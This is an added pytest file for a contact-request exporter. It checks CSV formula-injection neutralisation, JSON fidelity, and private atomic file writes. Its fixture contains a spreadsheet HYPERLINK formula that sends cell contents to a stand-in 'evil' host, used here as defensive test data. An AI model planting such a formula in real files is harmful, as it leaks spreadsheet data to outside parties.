@@ -1,0 +1,148 @@
+"""Exports: JSON as data, CSV for spreadsheets (formula triggers neutralised), private and atomic."""
+
+from __future__ import annotations
+
+import csv
+import errno
+import io
+import json
+import os
+import re
+import stat
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from netinbox import exporters
+from netinbox.exporters import CSV_COLUMNS, neutralise, to_csv, to_json, write_private
+from netinbox.store import Store
+
+from .conftest import Clock
+
+ISO = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+@pytest.fixture
+def exported(store: Store, clock: Clock, rec) -> Store:
+    a = store.add_request(
+        rec("Eve Mallory", headline='=HYPERLINK("https://evil/?"&A1,"click")', company="+49 30 1234",
+            message="-1+1", profile_url="https://www.linkedin.com/in/eve-mallory")
+    )  # fmt: skip
+    b = store.add_request(rec("Grete Sommerfeld", message="Hallo!", days_ago=2))
+    store.mark_sent(a, "Why?")
+    clock.advance(days=1)
+    store.record_answer(a, "@everyone: because")
+    store.mark_sent(b, "Warum?")
+    clock.advance(days=8)
+    return store
+
+
+def test_json_has_every_field_as_data(exported: Store) -> None:
+    items = json.loads(to_json(exported))
+    assert [i["name"] for i in items] == ["Grete Sommerfeld", "Eve Mallory"]  # oldest first
+    for item in items:
+        assert {
+            "id", "platform", "direction", "name", "headline", "company", "profile_url",
+            "message", "received_at", "status", "flags", "follow_ups",
+        } <= set(item)  # fmt: skip
+        assert ISO.match(item["received_at"])
+        for follow in item["follow_ups"]:
+            assert set(follow) == {"body", "sent_at", "due_at", "answered_at", "answer"}
+            assert ISO.match(follow["sent_at"]) and ISO.match(follow["due_at"])
+    grete, eve = items
+    assert eve["headline"] == '=HYPERLINK("https://evil/?"&A1,"click")'  # data stays unaltered
+    assert eve["status"] == "answered"
+    assert eve["follow_ups"][0]["answer"] == "@everyone: because"
+    assert ISO.match(eve["follow_ups"][0]["answered_at"])
+    assert grete["status"] == "asked" and "no_answer" in grete["flags"]
+    assert grete["follow_ups"][0]["answered_at"] is None
+
+
+def test_csv_for_spreadsheets(exported: Store) -> None:
+    text = to_csv(exported)
+    assert text.encode("utf-8")[:3] == b"\xef\xbb\xbf"
+    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+    assert tuple(rows[0]) == CSV_COLUMNS
+    eve = dict(zip(CSV_COLUMNS, rows[2], strict=True))
+    assert eve["headline"] == '\'=HYPERLINK("https://evil/?"&A1,"click")'
+    assert eve["company"] == "'+49 30 1234"
+    assert eve["message"] == "'-1+1"
+    assert eve["answer"] == "'@everyone: because"
+    assert eve["name"] == "Eve Mallory"
+    semicolons = to_csv(exported, delimiter=";")
+    assert semicolons.splitlines()[0] == "\ufeff" + ";".join(CSV_COLUMNS)
+
+
+def test_csv_cells_never_start_with_a_formula_trigger(tmp_path: Path, rec) -> None:
+    hostile = st.text(
+        alphabet=st.one_of(st.sampled_from(list("=+-@\t\r\n'\" ,;")), st.characters()), max_size=12
+    )
+    with Store(tmp_path / "p.db", clock=Clock()) as store:
+        serial = iter(range(1_000_000))
+
+        @settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+        @given(name=hostile, headline=hostile, company=hostile, message=hostile)
+        def check(name: str, headline: str, company: str, message: str) -> None:
+            record = rec(
+                f"{name} {next(serial)}", headline=headline, company=company, message=message
+            )
+            with store.write():
+                _, rid = store.upsert_request(record)
+            stored = {item["id"]: item for item in exporters.iter_requests(store)}[rid]
+            rows = list(csv.reader(io.StringIO(to_csv(store).removeprefix("\ufeff"), newline="")))
+            for row in rows[1:]:
+                for cell in row:
+                    assert not cell.startswith(TRIGGERS), cell
+            row = dict(zip(CSV_COLUMNS, next(r for r in rows if r[0] == str(rid)), strict=True))
+            for column in ("name", "headline", "company", "message"):
+                value = stored[column]
+                assert row[column] == ("'" + value if value.startswith(TRIGGERS) else value)
+
+        check()
+
+
+@given(st.text(max_size=20))
+def test_neutralise(value: str) -> None:
+    out = neutralise(value)
+    assert not out.startswith(TRIGGERS)
+    assert out in (value, "'" + value)
+
+
+def test_write_private_is_0600_and_atomic(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    target = tmp_path / "out.csv"
+    old = os.umask(0)
+    try:
+        write_private(target, "a,b\r\n")
+    finally:
+        os.umask(old)
+    assert target.read_bytes() == b"a,b\r\n"
+    assert stat.S_IMODE(target.stat().st_mode) == 0o600
+
+    def no_space(src: object, dst: object) -> None:
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(exporters.os, "replace", no_space)
+    with pytest.raises(OSError, match="No space"):
+        write_private(target, "new,content\r\n")
+    assert target.read_bytes() == b"a,b\r\n"  # the old file, whole
+    with pytest.raises(OSError):
+        write_private(tmp_path / "fresh.csv", "x")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]  # no partial file
+
+
+def test_write_private_cleans_up_when_writing_fails(tmp_path: Path, monkeypatch) -> None:
+    def broken_fsync(fd: int) -> None:
+        raise OSError(errno.EIO, "I/O error")
+
+    monkeypatch.setattr(exporters.os, "fsync", broken_fsync)
+    with pytest.raises(OSError, match="I/O error"):
+        write_private(tmp_path / "out.json", "[]")
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_export_reads_one_snapshot_and_leaves_no_transaction(exported: Store) -> None:
+    assert len(list(exporters.iter_requests(exported))) == 2
+    assert not exported.conn.in_transaction
